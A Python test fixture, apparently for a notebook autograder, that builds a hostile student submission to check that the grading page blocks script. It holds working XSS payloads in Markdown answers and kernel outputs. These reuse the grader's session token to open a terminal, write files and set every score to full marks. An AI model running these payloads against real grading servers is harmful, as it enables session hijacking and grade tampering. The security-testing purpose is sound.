"""Submissions whose Markdown answers and outputs try to run script in the page a grader opens.

``hostile_release`` fills written answers with raw HTML (one form each) and adds a code cell whose
kernel outputs are HTML, JavaScript, Markdown and SVG. Every payload, if it ran, would record its
name in ``top.A12_RAN`` (the marker the browser test reads), give full points in formgrader's score
inputs, write a comment, open a terminal and write a file through the server's API with the grader's
session. Its first written answer is legitimate instead: math, a table, a code block, and a plotted
figure under it, which must still render.
"""

from pathlib import Path

import nbformat

from .filled import answer_cells, filled_release

MARKER = "A12_RAN"


def attack(name: str) -> str:
    """JavaScript (no double quotes) that marks ``name`` as run and uses the grader's session."""
    return (
        f"(top.{MARKER}=top.{MARKER}||[]).push('{name}');"
        "var x=(document.cookie.match(/_xsrf=([^;]+)/)||[])[1]||'';"
        "var h={'X-XSRFToken':x,'Content-Type':'application/json'};"
        "fetch('/api/terminals',{method:'POST',headers:h});"
        f"fetch('/api/contents/pwned-{name}.txt',{{method:'PUT',headers:h,"
        "body:JSON.stringify({type:'file',format:'text',content:'pwned'})});"
        "document.querySelectorAll('input.score').forEach(function(i){i.value=i.max||9;"
        "i.dispatchEvent(new Event('change',{bubbles:true}))});"
        "document.querySelectorAll('textarea.comment').forEach(function(t){t.value='pwned';"
        "t.dispatchEvent(new Event('change',{bubbles:true}))});"
    )


# Raw HTML in a Markdown answer, one form per written answer (in the notebook's order).
MARKDOWN_ATTACKS = {
    "md-img-onerror": lambda js: f'An image: <img src="x" onerror="{js}"> end.',
    "md-script": lambda js: f"A script:\n\n<script>{js}</script>\n\nend.",
    "md-svg-onload": lambda js: f'Inline SVG: <svg onload="{js}"><circle r="5"/></svg> end.',
    "md-iframe-srcdoc": lambda js: f'A frame: <iframe srcdoc="<script>{js}</script>"></iframe> end.',
    "md-link-javascript": lambda js: f'<a href="javascript:{js}">a link</a> end.',
    "md-details-ontoggle": lambda js: f'<details open ontoggle="{js}"><summary>more</summary>x</details> end.',
    "md-style-onload": lambda js: f'<style onload="{js}">p {{}}</style> end.',
    "md-form-action": lambda js: f'<form action="javascript:{js}"><button>go</button></form> end.',
}

# A student's code cell: what the kernel displays while autograding (real outputs, from a real run).
OUTPUT_ATTACKS = ("out-html", "out-javascript", "out-markdown", "out-svg")


def output_cell() -> str:
    """The source of a code cell that displays the four hostile outputs."""
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="{js}">'
        '<script>{js}</script><circle cx="20" cy="20" r="15" fill="red"/></svg>'
    )
    html = '<img src=x onerror="' + attack("out-html") + '"><b>html output</b>'
    markdown = '**markdown output** <img src=x onerror="' + attack("out-markdown") + '">'
    return (
        "from IPython.display import HTML, SVG, Javascript, Markdown, display\n"
        f"display(HTML({html!r}))\n"
        f"display(Javascript({attack('out-javascript')!r}))\n"
        f"display(Markdown({markdown!r}))\n"
        f"display(SVG({svg.format(js=attack('out-svg'))!r}))\n"
    )


ATTACKS = (*MARKDOWN_ATTACKS, *OUTPUT_ATTACKS)


LEGITIMATE_ANSWER = r"""**Answer:** the noise follows $x_t = \sqrt{\bar\alpha_t}\,x_0 + \sqrt{1-\bar\alpha_t}\,\epsilon$.

| step | noise |
| --- | --- |
| 1 | small |
| 1000 | pure |

```python
def f(x):
    return x * 2  # doubled
```
"""

FIGURE_CELL = (
    "import matplotlib.pyplot as plt\nplt.figure(figsize=(2, 2))\nplt.plot([0, 1, 2], [0, 1, 4])\nplt.show()\n"
)


def hostile_release(release: Path, solution: Path) -> nbformat.NotebookNode:
    """The release with a legitimate first written answer and a figure, the Markdown attacks as the
    next written answers, and the output attacks in a code cell."""
    nb = filled_release(release, solution, set())
    first, *answers = answer_cells(nb, "markdown").values()
    first.source = LEGITIMATE_ANSWER
    for cell, (name, payload) in zip(answers, MARKDOWN_ATTACKS.items()):
        cell.source = f"**Answer:** {name}. " + payload(attack(name))
    nb.cells.insert(nb.cells.index(first) + 1, nbformat.v4.new_code_cell(FIGURE_CELL + output_cell()))
    return nb
